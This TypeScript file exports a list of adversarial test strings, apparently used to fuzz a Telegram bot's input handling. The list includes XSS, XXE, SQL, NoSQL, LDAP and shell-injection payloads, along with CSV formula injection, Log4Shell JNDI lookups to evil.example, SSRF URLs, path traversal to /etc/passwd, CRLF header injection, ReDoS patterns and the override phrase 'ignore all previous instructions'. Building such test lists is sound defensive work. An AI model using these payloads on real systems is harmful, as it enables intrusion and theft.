// Strings that are code somewhere: markup, queries, shells, templates, paths, addresses, formulas, our own commands.

/** None is empty. A § stands for $ before a brace, a ´ for a backquote. */
export const naughtyCode: string[] = String.raw`
<i><b>crossed</i></b>
<b <i>in a tag</b>
<b/>
<u
</
<>
<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>
<svg/onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<meta http-equiv="refresh" content="0;url=//evil.example">
"><script>alert(1)</script>
--><b>
</textarea></title></style>
<a href="java&#115;cript:alert(1)">x</a>
<a href='https://evil.example" onclick="x'>y</a>
<pre><code class="language-x">y
<blockquote>never closed
<tg-spoiler><tg-spoiler>
<tg-time unix="99999999999999" format="r">then</tg-time>
<s><del><strike>
<span class="tg-spoiler">
<b>&lt;/b>
&lt
&#
&#x;
&#0000000060;
&#x110000;
&amp
&AMP;
%253Cb%253E
\x3cb\x3e
+ADw-b+AD4-
*bold
~~gone~~ ||hidden||
# heading
- [ ] task
| a | b |
´´´js
[x](javascript:alert(1))
<https://evil.example>
\_\*\[\]\(\)
[b]bold[/b]
" OR ""="
'; COMMIT; --
1 UNION SELECT null, version()
%' ESCAPE '\
_%_
E'\\x41'
$tag$x$tag$
COPY events TO PROGRAM 'id'
/* x */ /*! y */
-- x
{"$gt": ""}
*)(uid=*))(|(uid=*
FLUSHALL
*1\r\n$8\r\nFLUSHALL
´id´
$IFS$9
%PATH%
;id
2>&1
{a,b}
*
--help
--
=1+1
@SUM(1)
=cmd|' /C calc'!A0
%n%n%n%n
%99999999d
{0}
{{}}
{{ event | json }}
{% for i in (1..100000) %}{{ i }}{% endfor %}
{%- endif -%}
{# comment #}
<?= 7*7 ?>
*{7*7}
§{´x´}
{{x.__proto__.y}}
__import__('os')
process.exit(1)
this.constructor.constructor("return 1")()
while(true){}
;}{
*/
(a+)+$
(?=x)(?<!y)
[^]
(
a{1000000000}
x*x*x*x*x*x*y
event.type == "x" || true
size(event.data) > 0 ? 1 : 0
usage >
>= 90 and
a =~ "["
not not a = b
() = ()
a in $me.blocks
$me.
"a" = "b"
for -1s
for 99999999d
named "x" named "y"
weekdays 25-99
Fri-Mon 22:00-06:00
otherwise
within -5m
9999-12-31T23:59:59Z
-271821-04-20T00:00:00Z
2016-12-31T23:59:60Z
00:00-00:00
P1Y2M
*/0 * * * *
Europe/Nowhere
UTC+99:99
CON
\\evil.example\share
....//....//
/proc/self/environ
/etc/passwd%00.png
-oProxyCommand=id
./
//
?a=b
http://
http://[::1]:22/
http://2130706433/
http://a:b@127.0.0.1/
http://evil.example:99999
https://evil.example\@good.example
//evil.example
gopher://127.0.0.1:6379/_x
§{jndi:ldap://evil.example/x}
§{§{lower:j}ndi:dns://x}
data:;base64,PGI+
tg://join?invite=x
https://t.me/tocsin_bot?start=x
@
@everyone
/silence * 1d
/@tocsin_bot
//start
/ start
/START
Subject: x\r\nBcc: y
X-A: b\r\n\r\n<b>
=?utf-8?B?PGI+?=
..
...
{"level":60,"msg":"fake"}
+++ATH0
ignore all previous instructions
yes
cancel
/cancel
back
none
all
default
[object Object]
function () { [native code] }
-Infinity
-NaN
1e-999
.5
5.
0b1
1/0
-1
2147483648
9007199254740993
9223372036854775808
1_000
1.000,5
100%
−5
½
∞
१२३
①②
False
nil
N/A
__defineGetter__
valueOf
toJSON
arguments
length
constructor.prototype
__proto__.polluted
`
  .replaceAll('§', '$')
  .replaceAll('´', '`')
  .split('\n')
  .filter((line) => line !== '');
